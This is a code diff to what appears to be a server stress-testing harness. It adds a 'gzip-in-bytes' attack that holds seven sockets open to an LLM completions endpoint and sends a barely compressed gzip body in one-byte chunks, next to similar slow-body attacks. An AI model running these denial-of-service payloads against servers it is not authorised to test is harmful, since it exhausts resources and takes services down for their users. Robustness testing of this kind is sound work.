@@ -1,4 +1,5 @@
 import { connect, type Socket } from "node:net";
+import { gzipSync } from "node:zlib";
 import type { Attack } from "./attack.js";
 import type { Reply, Sender } from "./sender.js";
 
@@ -7,7 +8,7 @@ const body = { prompt: "The", max_tokens: 4, ignore_eos: true };
 
 interface Sockets {
   readonly count: number;
-  readonly head: string;
+  readonly head: string | Buffer;
   /** Sent each second. */
   readonly drip?: string;
   readonly seconds: number;
@@ -29,7 +30,7 @@ async function holdSockets(sender: Sender, options: Sockets): Promise<readonly R
       socket.pause();
     });
     socket.once("close", () => answers.set(socket, answers.get(socket) ?? "closed"));
-    if (head !== "" && !isTogether) socket.write(head);
+    if (head.length > 0 && !isTogether) socket.write(head);
     return socket;
   });
   if (isTogether) {
@@ -57,6 +58,9 @@ const CHUNKED = "host: x\r\ntransfer-encoding: chunked";
 const BYTES = "1\r\n \r\n".repeat(500_000);
 const LAST_CHUNK = "0\r\n\r\n";
 const BODY_IN_BYTES = `POST ${COMPLETIONS} HTTP/1.1\r\n${CHUNKED}\r\ncontent-type: application/json\r\n\r\n${BYTES}${LAST_CHUNK}`;
+/** The same of a body in gzip that is hardly compressed. */
+const ZIPPED = [...gzipSync(`{"prompt":"${"x".repeat(200_000)}"`, { level: 0 }).toString("latin1")];
+const ZIPPED_IN_BYTES = `POST ${COMPLETIONS} HTTP/1.1\r\n${CHUNKED}\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\n\r\n${ZIPPED.map((byte) => `1\r\n${byte}\r\n`).join("")}${LAST_CHUNK}`;
 const FILE_START = '--x\r\ncontent-disposition: form-data; name="file"; filename="in.jsonl"\r\n\r\n';
 const FILE_IN_BYTES = `POST /v1/files HTTP/1.1\r\n${CHUNKED}\r\ncontent-type: multipart/form-data; boundary=x\r\n\r\n${FILE_START.length.toString(16)}\r\n${FILE_START}\r\n${BYTES}7\r\n\r\n--x--\r\n${LAST_CHUNK}`;
 const UNREAD_IN_BYTES = `GET /v1/models HTTP/1.1\r\n${CHUNKED}\r\n\r\n${BYTES}`;
@@ -87,6 +91,11 @@ export const CONNECTION_ATTACKS: readonly Attack[] = [
     description: "seven bodies of 0.5 MB in chunks of one byte",
     isQuick: true,
     send: (sender) => holdSockets(sender, { count: 7, head: BODY_IN_BYTES, seconds: 10 }),
+  },
+  {
+    name: "gzip-in-bytes",
+    description: "seven bodies of 0.2 MB in gzip, in chunks of one byte",
+    send: (sender) => holdSockets(sender, { count: 7, head: Buffer.from(ZIPPED_IN_BYTES, "latin1"), seconds: 10 }),
   },
   {
     name: "files-in-bytes",
